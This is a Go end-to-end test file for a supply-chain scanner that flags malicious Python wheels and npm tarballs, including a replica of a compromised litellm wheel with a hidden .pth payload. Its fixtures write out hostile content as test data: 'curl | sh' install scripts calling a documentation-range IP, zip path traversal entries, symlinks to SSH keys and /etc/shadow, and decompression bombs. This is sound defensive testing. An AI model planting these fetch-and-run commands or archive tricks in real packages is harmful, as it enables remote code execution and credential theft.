		writeFile(t, clean, setuptoolsWheel(t))
		r = runCLI(t, "scan", "--format", "json", clean)
		mustCode(t, r, ExitOK)
		var cleanRaw struct {
			Packages []struct {
				Findings []any `json:"findings"`
			} `json:"packages"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &cleanRaw); err != nil || len(cleanRaw.Packages) != 1 || cleanRaw.Packages[0].Findings == nil {
			t.Errorf("clean package: findings must be an empty array: %v\n%s", err, r.stdout)
		}
	})

	t.Run("sarif", func(t *testing.T) {
		r := runCLI(t, "scan", "--format", "sarif", whl)
		mustCode(t, r, ExitFail)
		var s struct {
			Version string `json:"version"`
			Runs    []struct {
				Tool struct {
					Driver struct {
						Name  string `json:"name"`
						Rules []struct {
							ID string `json:"id"`
						} `json:"rules"`
					} `json:"driver"`
				} `json:"tool"`
				Results []struct {
					RuleID  string `json:"ruleId"`
					Level   string `json:"level"`
					Message struct {
						Text string `json:"text"`
					} `json:"message"`
				} `json:"results"`
			} `json:"runs"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &s); err != nil {
			t.Fatalf("sarif output is not JSON: %v\n%s", err, r.stdout)
		}
		if s.Version != "2.1.0" {
			t.Errorf("sarif version %q, want 2.1.0", s.Version)
		}
		if len(s.Runs) != 1 || len(s.Runs[0].Results) == 0 {
			t.Fatalf("sarif has no results: %s", r.stdout)
		}
		found := false
		for _, res := range s.Runs[0].Results {
			if res.RuleID == "static/pth-exec" && res.Level == "error" {
				found = true
			}
		}
		if !found {
			t.Errorf("no static/pth-exec error result in SARIF")
		}
	})

	t.Run("text", func(t *testing.T) {
		r := runCLI(t, "scan", "--format", "text", "--color", "never", whl)
		mustCode(t, r, ExitFail)
		if strings.Contains(r.stdout, "\x1b[") {
			t.Errorf("--color never wrote ANSI escapes")
		}
		if !strings.Contains(r.stdout, "litellm_init.pth:1 → base64 → base64") {
			t.Errorf("text output does not show the decoding chain:\n%s", r.stdout)
		}
		c := runCLI(t, "scan", "--color", "always", whl)
		if !strings.Contains(c.stdout, "\x1b[31mBLOCK") {
			t.Errorf("--color always did not paint the verdict:\n%s", c.stdout)
		}
	})

	t.Run("output file", func(t *testing.T) {
		for _, flagName := range []string{"-o", "--output"} {
			out := filepath.Join(t.TempDir(), "report.json")
			r := runCLI(t, "scan", "--format", "json", flagName, out, whl)
			mustCode(t, r, ExitFail)
			if strings.TrimSpace(r.stdout) != "" {
				t.Errorf("%s: report also written to stdout:\n%s", flagName, r.stdout)
			}
			f, err := os.Open(out)
			if err != nil {
				t.Fatalf("%s: %v", flagName, err)
			}
			rep, err := report.ReadJSON(f)
			f.Close()
			if err != nil {
				t.Fatalf("%s: written file is not a JSON report: %v", flagName, err)
			}
			if rep.Summary.Block != 1 {
				t.Errorf("%s: written report summary %+v", flagName, rep.Summary)
			}
		}
		r := runCLI(t, "scan", "-o", filepath.Join(dir, "no-such-dir", "r.txt"), whl)
		mustCode(t, r, ExitUsage)
	})

	t.Run("flags after target", func(t *testing.T) {
		r := runCLI(t, "scan", whl, "--format", "json")
		mustCode(t, r, ExitFail)
		if _, err := report.ReadJSON(strings.NewReader(r.stdout)); err != nil {
			t.Errorf("scan PATH --format json did not write JSON: %v", err)
		}
	})
}

func TestE2EDisableRule(t *testing.T) {
	dir := t.TempDir()
	whl := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	writeFile(t, whl, litellm1828Wheel(t))

	check := func(t *testing.T, rep *model.Report) {
		t.Helper()
		res := pkgByName(t, rep, "litellm")
		for _, f := range res.Findings {
			if f.Rule == "static/pth-exec" {
				t.Errorf("disabled rule still reported: %s", f.Location())
			}
		}
		if len(res.Findings) == 0 {
			t.Errorf("disabling one rule removed every finding")
		}
	}
	t.Run("flag", func(t *testing.T) {
		_, rep := scanJSON(t, "--disable", "static/pth-exec", whl)
		check(t, rep)
	})
	t.Run("flag list", func(t *testing.T) {
		_, rep := scanJSON(t, "--disable", "static/pth-exec,static/network", whl)
		check(t, rep)
		for _, f := range pkgByName(t, rep, "litellm").Findings {
			if f.Rule == "static/network" {
				t.Errorf("static/network still reported")
			}
		}
	})
	t.Run("config", func(t *testing.T) {
		cfg := filepath.Join(t.TempDir(), "airlock.yaml")
		writeFile(t, cfg, []byte("rules:\n  disable: [static/pth-exec]\n"))
		_, rep := scanJSON(t, "--config", cfg, whl)
		check(t, rep)
	})
}

func TestE2EAllowList(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir) // .airlock.yaml is read from the working directory
	whl := litellm1828Wheel(t)
	const name = "litellm-1.82.8-py3-none-any.whl"
	writeFile(t, filepath.Join(dir, name), whl)
	digest := sha256Of(whl)

	writeCfg := func(expires string) {
		writeFile(t, filepath.Join(dir, DefaultConfigFile), []byte(fmt.Sprintf(`allow:
  - package: pypi:litellm@1.82.8
    digest: %s
    reason: "replica used by the end-to-end tests"
    expires: %s
`, digest, expires)))
	}

	future := time.Now().AddDate(1, 0, 0).Format("2006-01-02")
	writeCfg(future)
	r, rep := scanJSON(t, name)
	mustCode(t, r, ExitOK)
	res := pkgByName(t, rep, "litellm")
	if res.Verdict != model.Allow || res.Allowed == "" {
		t.Errorf("allow-listed wheel: verdict %s, allowed %q; want allow with a reason", res.Verdict, res.Allowed)
	}
	if len(res.Findings) == 0 {
		t.Errorf("allow-listing hid the findings; they should still be reported")
	}
	if diagContains(rep, "expired") {
		t.Errorf("unexpected expiry diagnostic: %v", rep.Diagnostics)
	}

	writeCfg("2020-01-01")
	r, rep = scanJSON(t, name)
	mustCode(t, r, ExitFail)
	if res := pkgByName(t, rep, "litellm"); res.Verdict != model.Block || res.Allowed != "" {
		t.Errorf("expired allow-list entry: verdict %s, allowed %q; want block", res.Verdict, res.Allowed)
	}
	if !diagContains(rep, "expired") || !diagContains(rep, digest) {
		t.Errorf("expired allow-list entry: no diagnostic naming it: %v", rep.Diagnostics)
	}

	// an entry for another digest does not apply
	other := sha256Of([]byte("something else"))
	writeFile(t, filepath.Join(dir, DefaultConfigFile), []byte(fmt.Sprintf("allow:\n  - package: pypi:litellm@1.82.8\n    digest: %s\n    reason: wrong artifact\n    expires: %s\n", other, future)))
	r, _ = scanJSON(t, name)
	mustCode(t, r, ExitFail)

	// an entry without a reason is a configuration error
	writeFile(t, filepath.Join(dir, DefaultConfigFile), []byte(fmt.Sprintf("allow:\n  - digest: %s\n    expires: %s\n", digest, future)))
	r = runCLI(t, "scan", name)
	mustCode(t, r, ExitUsage)
}

// ---------------------------------------------------------------------------
// 6. Hostile inputs: the scan completes, problems are diagnostics.

func TestE2EHostileInputs(t *testing.T) {
	dir := t.TempDir()
	benignPy := "def hello():\n    return 'hello'\n"

	tgz := tarGzBytes(t, []entry{
		{name: "package/package.json", body: `{"name": "truncated-pkg", "version": "1.0.0", "main": "index.js"}`},
		{name: "package/index.js", body: strings.Repeat("module.exports.x = 1; // padding so the archive is long enough to cut\n", 400)},
		{name: "package/lib/more.js", body: strings.Repeat("exports.y = 2;\n", 400)},
	})

	cases := []struct {
		name string
		file string
		data func(t *testing.T) []byte
		// diag is a substring one diagnostic must contain
		diag string
		// code documents the exit code each input gives
		code int
		// pkgs is the number of packages the report must list
		pkgs int
	}{
		{
			name: "zip path traversal", file: "slip-1.0.zip",
			data: func(t *testing.T) []byte {
				return zipBytes(t, []entry{
					{name: "slip/__init__.py", body: benignPy},
					{name: "../evil.py", body: "print('outside')\n"},
					{name: "/etc/cron.d/evil", body: "* * * * * root true\n"},
				})
			},
			diag: "../evil.py", code: ExitOK, pkgs: 1,
		},
		{
			name: "tar symlink", file: "linky-1.0.0.tgz",
			data: func(t *testing.T) []byte {
				return tarGzBytes(t, []entry{
					{name: "package/package.json", body: `{"name": "linky", "version": "1.0.0"}`},
					{name: "package/index.js", body: "module.exports = 1;\n"},
					{name: "package/creds", link: "/home/user/.ssh/id_rsa"},
					{name: "package/up", link: "../../../../etc"},
				})
			},
			diag: "symbolic link", code: ExitOK, pkgs: 1,
		},
		{
			name: "truncated gzip", file: "truncated-pkg-1.0.0.tgz",
			data: func(t *testing.T) []byte { return tgz[:len(tgz)*2/3] },
			diag: "truncated", code: ExitOK, pkgs: 1,
		},
		{
			// one binary entry declaring 300 MiB: over the per-file limit
			name: "zip bomb", file: "bomb-1.0.zip",
			data: func(t *testing.T) []byte { return zipBombBytes(t, 300<<20, 0, "bomb/zeros.bin") },
			diag: "limit", code: ExitOK, pkgs: 1,
		},
		{
			// one text entry declaring 300 MiB: read up to the per-file limit
			name: "zip bomb of text", file: "textbomb-1.0.zip",
			data: func(t *testing.T) []byte { return zipBombBytes(t, 300<<20, 'A', "textbomb/aaaa.txt") },
			diag: "limit", code: ExitOK, pkgs: 1,
		},
		{
			// many entries each under the per-file limit: the ratio stops it
			name: "zip bomb of many entries", file: "bombs-1.0.zip",
			data: func(t *testing.T) []byte {
				var names []string
				for i := range 10 {
					names = append(names, fmt.Sprintf("bombs/part%02d.txt", i))
				}
				return zipBombBytes(t, 30<<20, 'A', names...)
			},
			diag: "decompression bomb", code: ExitOK, pkgs: 1,
		},
		{
			name: "tar.gz bomb", file: "tarbomb-1.0.0.tgz",
			data: func(t *testing.T) []byte { return tarGzBombBytes(t, 300<<20) },
			diag: "zeros.bin", code: ExitOK, pkgs: 1,
		},
		{
			name: "not an archive", file: "notes.txt",
			data: func(t *testing.T) []byte { return []byte("just some notes, not a package\n") },
			diag: "not a recognized package archive", code: ExitOK, pkgs: 0,
		},
		{
			name: "empty file", file: "empty.whl",
			data: func(t *testing.T) []byte { return nil },
			diag: "empty.whl", code: ExitOK, pkgs: 0,
		},
		{
			name: "corrupt zip", file: "corrupt-1.0-py3-none-any.whl",
			data: func(t *testing.T) []byte {
				z := zipBytes(t, wheelEntries("corrupt", "1.0", []entry{{name: "corrupt/__init__.py", body: benignPy}}))
				// keep the local headers, damage the central directory
				return append(z[:len(z)-40:len(z)-40], bytes.Repeat([]byte{0xff}, 40)...)
			},
			diag: "corrupt", code: ExitOK, pkgs: 1,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := filepath.Join(dir, c.file)
			data := c.data(t)
			writeFile(t, path, data)
			start := time.Now()
			r, rep := scanJSON(t, path)
			if d := time.Since(start); d > 10*time.Second {
				t.Errorf("scan took %v", d)
			}
			t.Logf("exit %d, %d packages, diagnostics: %v", r.code, len(rep.Packages), rep.Diagnostics)
			if r.code != c.code {
				t.Errorf("exit code %d, want %d\n%s", r.code, c.code, r.stderr)
			}
			if len(rep.Packages) != c.pkgs {
				t.Errorf("%d packages reported, want %d\n%s", len(rep.Packages), c.pkgs, dumpReport(rep))
			}
			if !diagContains(rep, c.diag) {
				t.Errorf("no diagnostic mentions %q; diagnostics: %v", c.diag, rep.Diagnostics)
			}
			// the text report shows the same diagnostics
			txt := runCLI(t, "scan", "--color", "never", path)
			if txt.code != r.code || !strings.Contains(txt.stdout, "diagnostics:") {
				t.Errorf("text run: exit %d, output:\n%s", txt.code, txt.stdout)
			}
		})
	}
}

// All hostile inputs and the litellm replica in one project: the scan
// goes through every file and still blocks the replica.
func TestE2EHostileProject(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "dist", "litellm-1.82.8-py3-none-any.whl"), litellm1828Wheel(t))
	writeFile(t, filepath.Join(dir, "dist", "slip-1.0.zip"), zipBytes(t, []entry{{name: "../evil.py", body: "x = 1\n"}, {name: "slip/a.py", body: "y = 2\n"}}))
	writeFile(t, filepath.Join(dir, "dist", "linky-1.0.0.tgz"), tarGzBytes(t, []entry{{name: "package/package.json", body: `{"name":"linky","version":"1.0.0"}`}, {name: "package/l", link: "/etc/shadow"}}))
	writeFile(t, filepath.Join(dir, "dist", "bomb-1.0.zip"), zipBombBytes(t, 300<<20, 0, "bomb/zeros.bin"))
	good := tarGzBytes(t, []entry{{name: "package/package.json", body: `{"name":"cut","version":"1.0.0"}`}, {name: "package/index.js", body: strings.Repeat("exports.a = 1;\n", 2000)}})
	writeFile(t, filepath.Join(dir, "dist", "cut-1.0.0.tgz"), good[:len(good)/2])
	r, rep := scanJSON(t, dir)
	mustCode(t, r, ExitFail)
	if res := pkgByName(t, rep, "litellm"); res.Verdict != model.Block {
		t.Errorf("litellm: %s, want block", res.Verdict)
	}
	for _, want := range []string{"../evil.py", "/etc/shadow", "bomb/zeros.bin", "cut-1.0.0.tgz"} {
		if !diagContains(rep, want) {
			t.Errorf("no diagnostic mentions %q: %v", want, rep.Diagnostics)
		}
	}
}

// Hostile content inside an otherwise malicious archive must not hide the
// malicious part: the traversal entry is skipped, the .pth still blocks.
func TestE2EHostileEntriesDoNotHidePayload(t *testing.T) {
	dir := t.TempDir()
	files := wheelEntries("litellm", "1.82.8", []entry{
		{name: "litellm/__init__.py", body: litellmInit},
		{name: "litellm_init.pth", body: litellmPthLine() + "\n"},
	})
	files = append([]entry{{name: "../../.bashrc", body: "curl http://x | sh\n"}}, files...)
	path := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	writeFile(t, path, zipBytes(t, files))
	r, rep := scanJSON(t, path)
	mustCode(t, r, ExitFail)
	checkLitellm1828(t, rep, "")
	if !diagContains(rep, "../../.bashrc") {
		t.Errorf("traversal entry not reported: %v", rep.Diagnostics)
	}
}

// Evasions: inputs that the installer or interpreter reads differently
// from a naive reader must not hide a payload.
func TestE2EEvasions(t *testing.T) {
	dir := t.TempDir()
	const knownDup = "the artifact reader keeps the FIRST of duplicate archive entries (\"duplicate entry … skipped; the first one was kept\"), " +
		"but pip installs the LAST (zipfile.getinfo returns the last entry of a name) and tar extraction overwrites with the last: a benign first copy hides the payload"
	const knownNUL = "engine.BuildInput treats a file with a NUL byte in its first 512 bytes as binary and does not analyze it; " +
		"Python's site module still runs the .pth import lines after a NUL in a comment line, and Node runs JavaScript with a NUL inside a comment"
	cases := []struct {
		name  string
		file  string
		data  func(t *testing.T) []byte
		check func(t *testing.T, res *model.Result) bool // reports whether the expected finding is there
	}{
		{
			name: "zip duplicate .pth, payload second", file: "litellm-1.82.8-py3-none-any.whl",
			data: func(t *testing.T) []byte {
				return zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
					{name: "litellm/__init__.py", body: litellmInit},
					{name: "litellm_init.pth", body: "/opt/litellm/extras\n"},
					{name: "litellm_init.pth", body: litellmPthLine() + "\n"},
				}))
			},
			check: func(t *testing.T, res *model.Result) bool {
				return hasFinding(res, func(f model.Finding) bool { return f.Rule == "static/pth-exec" && f.Path == "litellm_init.pth" })
			},
		},
		{
			name: "tar duplicate package.json, install script second", file: "dup-scripts-1.0.0.tgz",
			data: func(t *testing.T) []byte {
				return tarGzBytes(t, []entry{
					{name: "package/package.json", body: `{"name": "dup-scripts", "version": "1.0.0"}`},
					{name: "package/index.js", body: "module.exports = 1;\n"},
					{name: "package/package.json", body: `{"name": "dup-scripts", "version": "1.0.0", "scripts": {"postinstall": "curl http://x | sh"}}`},
				})
			},
			check: func(t *testing.T, res *model.Result) bool {
				return hasFinding(res, func(f model.Finding) bool { return f.Path == "package.json" && strings.Contains(f.Evidence, "curl") })
			},
		},
		{
			name: "NUL byte in a .pth comment line", file: "litellm-1.82.8-py3-none-any.whl",
			data: func(t *testing.T) []byte {
				return zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
					{name: "litellm/__init__.py", body: litellmInit},
					{name: "litellm_init.pth", body: "# generated by build\x00\n" + litellmPthLine() + "\n"},
				}))
			},
			check: func(t *testing.T, res *model.Result) bool {
				return hasFinding(res, func(f model.Finding) bool {
					return f.Rule == "static/pth-exec" && f.Path == "litellm_init.pth" && f.Line == 2
				})
			},
		},
		{
			name: "NUL byte in a JavaScript comment of an install script", file: "nul-helper-1.0.0.tgz",
			data: func(t *testing.T) []byte {
				return tarGzBytes(t, []entry{
					{name: "package/package.json", body: `{"name": "nul-helper", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}`},
					{name: "package/install.js", body: "/* build helper \x00 */\nrequire('child_process').execSync('curl -s http://203.0.113.9/i | sh');\n"},
				})
			},
			check: func(t *testing.T, res *model.Result) bool {
				return hasFinding(res, func(f model.Finding) bool { return f.Path == "install.js" && f.Line == 2 })
			},
		},
		{
			// Python 3.13+ decodes .pth files as utf-8-sig, so the first
			// line runs even behind a byte-order mark
			name: "byte-order mark before a .pth import line", file: "litellm-1.82.8-py3-none-any.whl",
			data: func(t *testing.T) []byte {
				return zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
					{name: "litellm/__init__.py", body: litellmInit},
					{name: "litellm_init.pth", body: "\ufeff" + litellmPthLine() + "\n"},
				}))
			},
			check: func(t *testing.T, res *model.Result) bool {
				return hasFinding(res, func(f model.Finding) bool {
					return f.Rule == "static/pth-exec" && f.Path == "litellm_init.pth" && f.Line == 1
				})
			},
		},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := filepath.Join(dir, fmt.Sprint(i), c.file)
			writeFile(t, path, c.data(t))
			r, rep := scanJSON(t, path)
			if len(rep.Packages) != 1 {
				t.Fatalf("%d packages, want 1", len(rep.Packages))
			}
			res := &rep.Packages[0]
			if ok := c.check(t, res); !ok || res.Verdict != model.Block || r.code != ExitFail {
				t.Errorf("verdict %s, exit %d, expected finding present: %v; want block, exit 1\n%s", res.Verdict, r.code, ok, dumpReport(rep))
			}
		})
	}
}

// ---------------------------------------------------------------------------
// 7. Golden text output.

func TestE2EGoldenLitellm1828Text(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir) // the report shows the path as given, relative
	const name = "litellm-1.82.8-py3-none-any.whl"
	writeFile(t, filepath.Join(dir, name), litellm1828Wheel(t))
	r := runCLI(t, "scan", "--color", "never", name)
	mustCode(t, r, ExitFail)
	checkGolden(t, "litellm-1.82.8.txt.golden", []byte(r.stdout))
}

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	golden := filepath.Join(testdataDir, name)
	if *update {
		writeFile(t, golden, got)
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/cli -run Golden -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (check the change, then run go test ./internal/cli -run Golden -update)\n--- got ---\n%s\n--- want ---\n%s", name, got, want)
	}
}
